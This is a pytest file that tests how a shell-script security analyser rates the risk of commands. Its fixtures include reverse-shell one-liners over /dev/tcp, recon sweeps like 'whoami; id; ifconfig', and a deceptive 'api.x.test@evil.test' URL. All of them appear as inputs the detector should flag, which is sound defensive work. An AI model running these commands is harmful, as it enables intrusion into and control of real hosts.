"""What ordinary scripts do is LOW, and stops being so where something is carried, hidden or unsigned."""

from __future__ import annotations

import pytest

from engine.analysis import analyse
from engine.models import Language, Level


def _worst(code: str, *rules: str) -> Level | None:
    violations = [one for one in analyse(code, Language.SHELL).violations if one.rule in rules or not rules]
    assert all(one.why.startswith(one.severity.value.upper()) for one in violations)
    return max((one.severity for one in violations), key=lambda level: level.rank, default=None)


@pytest.mark.parametrize(
    "code",
    [
        "curl https://api.x.test/v1",
        "curl -fsSL 'https://api.x.test/v1?a=1' | jq .a",
        "wget -qO- https://api.x.test/v1",
        "curl --max-time 5 http://api.x.test:8080/",
        "apt-get install -y curl",
        "sudo dnf install jq",
        "pacman -S jq",
        "hostname; free -h; uptime; uname -r",
        "wc -l < /proc/net/tcp",
        "cat /proc/meminfo",
    ],
)
def test_ordinary_work_is_low(code: str) -> None:
    """It is shown as an effect, and granted as a permission."""
    assert _worst(code) is Level.LOW


@pytest.mark.parametrize(
    "code",
    [
        'curl "https://api.x.test/$(cat a)"',
        'x=$(cat a); curl "https://$x.x.test/"',
        'curl "https://api.x.test/?k=$SOME_TOKEN"',
        "curl https://10.0.0.1/",
        "curl https://api.x.test@evil.test/",
        "curl -k https://api.x.test/",
        "curl -A Agent https://api.x.test/",
        "curl --proxy http://p.test https://api.x.test/",
        "curl -d a=1 https://api.x.test/",
        "curl -X DELETE https://api.x.test/",
        'curl "$1"',
    ],
)
def test_a_request_that_carries_or_hides_something_is_not_low(code: str) -> None:
    """Data in the address, a host without a name, or no check of who answers."""
    assert _worst(code, "sh-network", "sh-post") is Level.MEDIUM


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("pip install x", Level.MEDIUM),
        ("apt install ./a.deb", Level.MEDIUM),
        ("apt install $x", Level.MEDIUM),
        ("apt-get install --allow-unauthenticated x", Level.MEDIUM),
        ("dnf install --nogpgcheck x", Level.MEDIUM),
        ("brew install some/tap/x", Level.MEDIUM),
        ("apt install https://x.test/a.deb", Level.HIGH),
        ("pip install git+https://x.test/y", Level.HIGH),
    ],
)
def test_a_package_that_no_signed_archive_vouches_for_is_not_low(code: str, expected: Level) -> None:
    """Anybody may have published it."""
    assert _worst(code, "sh-package-install") is expected


@pytest.mark.parametrize(
    "code", ["whoami; id; ifconfig", "free; whoami; id; ifconfig", "uname -a; hostname; ps aux; netstat -an"]
)
def test_three_queries_about_users_and_connections_are_medium(code: str) -> None:
    """Queries about free resources neither count nor distract."""
    assert _worst(code, "sh-recon-sweep") is Level.MEDIUM


@pytest.mark.parametrize(
    "code",
    ["wget https://x.test/a.sh", "curl -O 'https://x.test/a.py?v=1'", "curl https://x.test/a -o b.deb"],
)
def test_a_downloaded_program_is_high(code: str) -> None:
    """Data is MEDIUM."""
    assert _worst(code, "sh-download") is Level.HIGH
    assert _worst("wget https://x.test/a.csv", "sh-download") is Level.MEDIUM


@pytest.mark.parametrize(
    "shell", ["sh <&5 >&5 2>&5", "/bin/bash 0<&5 1>&5", "bash -i <&5 >&5", "nohup sh <&5 >&5 &"]
)
def test_a_shell_on_a_descriptor_of_a_connection_is_critical(shell: str) -> None:
    """It is a reverse shell in two steps."""
    assert _worst(f"exec 5<>/dev/tcp/10.0.0.1/1; {shell}", "sh-reverse-shell") is Level.CRITICAL


def test_a_shell_that_reads_an_open_file_is_no_reverse_shell() -> None:
    """The descriptor is of a file."""
    assert _worst("exec 5<>data.txt; sh <&5 >&5", "sh-reverse-shell") is None
